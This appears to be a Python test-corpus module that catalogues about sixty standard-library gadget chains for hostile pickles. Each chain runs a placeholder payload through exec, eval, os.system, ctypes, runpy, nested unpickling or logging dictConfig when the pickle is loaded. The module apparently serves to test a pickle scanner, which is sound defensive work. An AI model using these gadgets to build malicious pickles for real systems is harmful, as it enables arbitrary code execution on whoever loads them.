"""Functions of the standard library that evaluate text, code objects or further pickles."""

from __future__ import annotations

from tests.corpus.hostile.case import Target
from tests.corpus.hostile.gadgets import (
    SYSTEM,
    Value,
    attribute,
    code_object,
    helper,
    keyed,
    method,
    module,
    nested,
)
from tests.corpus.hostile.opcodes import Built, Call, Global, call


def pth(t: Target) -> str:
    """A ``.pth`` file, of which ``site`` executes the lines that begin with import."""
    (t.folder / "hook.pth").write_text(f"import os; {t.code}\n")
    return "hook.pth"


def forward(t: Target) -> Call:
    """A forward reference whose text is the payload."""
    reference = call("typing:ForwardRef", t.code)
    return method(reference, "_evaluate", {}, {}, call("builtins:frozenset"))


def label_owner() -> Built:
    """A parser generator that was never initialised."""
    owner = call("lib2to3.pgen2.pgen:ParserGenerator", how="newobj")
    return Built(owner, {})


EVALUATORS: dict[str, Value] = {
    "builtins-exec": lambda t: call("builtins:exec", t.code),
    "builtins-eval": lambda t: call("builtins:eval", t.code),
    "builtins-compile": lambda t: call("builtins:exec", call("builtins:compile", t.code, "x", "exec")),
    "marshal-exec": lambda t: call("builtins:exec", code_object(t)),
    "types-function": lambda t: Call(call("types:FunctionType", code_object(t), {})),
    "types-codetype": lambda t: call("builtins:exec", method(code_object(t), "replace")),
    "runpy-run-code": lambda t: call("runpy:_run_code", t.code, {}),
    "runpy-run-path": lambda t: call("runpy:run_path", helper(t)),
    "code-interpreter": lambda t: method(call("code:InteractiveInterpreter"), "runsource", t.code),
    "code-runcode": lambda t: method(call("code:InteractiveInterpreter"), "runcode", code_object(t)),
    "bdb-run": lambda t: call("bdb:Bdb.run", call("bdb:Bdb"), t.code),
    "bdb-runeval": lambda t: call("bdb:Bdb.runeval", call("bdb:Bdb"), t.code),
    "cprofile-run": lambda t: call("cProfile:run", t.code, t.canary + ".out"),
    "cprofile-runctx": lambda t: call("cProfile:runctx", t.code, {}, {}, t.canary + ".out"),
    "profile-run": lambda t: call("profile:Profile.run", call("profile:Profile"), t.code),
    "trace-run": lambda t: call("trace:Trace.run", call("trace:Trace", 0, 0), t.code),
    "timeit-timeit": lambda t: call("timeit:timeit", t.code, "pass", Global("time", "perf_counter"), 1),
    "timeit-setup": lambda t: call("timeit:timeit", "pass", t.code, Global("time", "perf_counter"), 1),
    "timeit-main": lambda t: call("timeit:main", ["-n1", "-r1", t.code]),
    "site-addpackage": lambda t: call("site:addpackage", str(t.folder), pth(t), None),
    "typing-forwardref": forward,
    "lib2to3-make-label": lambda t: method(
        label_owner(), "make_label", call("lib2to3.pgen2.grammar:Grammar"), f"'a' if {t.code} else 'b'"
    ),
    "threading-thread": lambda t: method(
        call("threading:Timer", 0, Global("os", "system"), (t.shell,)), "run"
    ),
    "concurrent-submit": lambda t: method(
        method(call("concurrent.futures:ThreadPoolExecutor", 1), "submit", SYSTEM, t.shell), "result"
    ),
    "atexit-register": lambda t: [
        call("atexit:register", SYSTEM, t.shell),
        call("atexit:_run_exitfuncs"),
    ],
    "contextvars-run": lambda t: method(call("contextvars:copy_context"), "run", SYSTEM, t.shell),
    "ctypes-libc": lambda t: method(call("ctypes:CDLL", None), "system", t.shell.encode()),
    "ctypes-pythonapi": lambda t: method(
        attribute(module("ctypes"), "pythonapi"), "PyRun_SimpleString", t.code.encode()
    ),
    "pkgutil-resolve": lambda t: Call(call("pkgutil:resolve_name", "os:system"), (t.shell,)),
    "pydoc-locate": lambda t: Call(call("pydoc:locate", "os.system"), (t.shell,)),
    "logging-resolve": lambda t: Call(call("logging.config:_resolve", "os.system"), (t.shell,)),
    "importlib-import": lambda t: Call(attribute(module("os"), "system"), (t.shell,)),
    "importlib-loader": lambda t: method(
        call("importlib.machinery:SourceFileLoader", "helper", helper(t)), "load_module"
    ),
    "builtins-import-getattr": lambda t: method(call("builtins:__import__", "os"), "system", t.shell),
    "sys-modules": lambda t: method(
        Call(attribute(attribute(module("sys"), "modules"), "__getitem__"), ("os",)), "system", t.shell
    ),
    "builtins-map-list": lambda t: call("builtins:list", call("builtins:map", SYSTEM, [t.shell])),
    "builtins-filter-tuple": lambda t: call(
        "builtins:tuple", call("builtins:filter", SYSTEM, [t.shell]), how="newobj"
    ),
    "builtins-map-bytes": lambda t: call(
        "builtins:bytes", call("builtins:map", SYSTEM, [t.shell]), how="newobj"
    ),
    "builtins-max-key": keyed,
    "itertools-starmap": lambda t: call("builtins:set", call("itertools:starmap", SYSTEM, [(t.shell,)])),
    "itertools-groupby": lambda t: call(
        "collections:deque", call("itertools:groupby", [t.shell], SYSTEM), how="reduce"
    ),
    "collections-deque": lambda t: call("collections:deque", call("builtins:map", SYSTEM, [t.shell]), 0),
    "collections-ordereddict": lambda t: call(
        "collections:OrderedDict",
        call("builtins:map", Global("builtins", "eval"), [f"({t.code}, 1)"]),
    ),
    "collections-counter": lambda t: call("collections:Counter", call("builtins:map", SYSTEM, [t.shell])),
    "functools-partial": lambda t: Call(call("functools:partial", SYSTEM, t.shell)),
    "functools-reduce": lambda t: call("functools:reduce", Global("builtins", "exec"), [t.code, {}]),
    "operator-methodcaller": lambda t: Call(
        call("operator:methodcaller", "system", t.shell), (module("os"),)
    ),
    "operator-attrgetter": lambda t: Call(
        Call(call("operator:attrgetter", "system"), (module("os"),)), (t.shell,)
    ),
    "operator-itemgetter": lambda t: Call(
        Call(call("operator:itemgetter", "eval"), (call("builtins:vars", module("builtins")),)), (t.code,)
    ),
    "operator-call": lambda t: call("operator:call", SYSTEM, t.shell),
    "weakref-finalize": lambda t: Call(
        call("weakref:finalize", call("collections:OrderedDict"), SYSTEM, t.shell)
    ),
    "builtins-iter-sentinel": lambda t: call(
        "builtins:list", call("builtins:iter", call("functools:partial", SYSTEM, t.shell), 0)
    ),
    "pickle-loads": lambda t: call("pickle:loads", nested(t)),
    "pickle-c-loads": lambda t: call("_pickle:loads", nested(t)),
    "pickle-python-loads": lambda t: call("pickle:_loads", nested(t)),
    "pickle-unpickler": lambda t: method(call("pickle:Unpickler", call("io:BytesIO", nested(t))), "load"),
    "shelve-unpickler": lambda t: method(call("shelve:Unpickler", call("io:BytesIO", nested(t))), "load"),
    "lib2to3-grammar-loads": lambda t: method(call("lib2to3.pgen2.grammar:Grammar"), "loads", nested(t)),
    "multiprocessing-loads": lambda t: call("multiprocessing.reduction:ForkingPickler.loads", nested(t)),
    "logging-unpickle": lambda t: call(
        "logging.config:ConvertingDict.setdefault",
        call("logging.config:ConvertingDict"),
        "a",
        call("pickle:loads", nested(t)),
    ),
    "dictconfig-factory": lambda t: call(
        "logging.config:dictConfig",
        {"version": 1, "filters": {"f": {"()": "os.system", "command": t.shell}}},
    ),
}
"""By name: a call that runs the payload."""
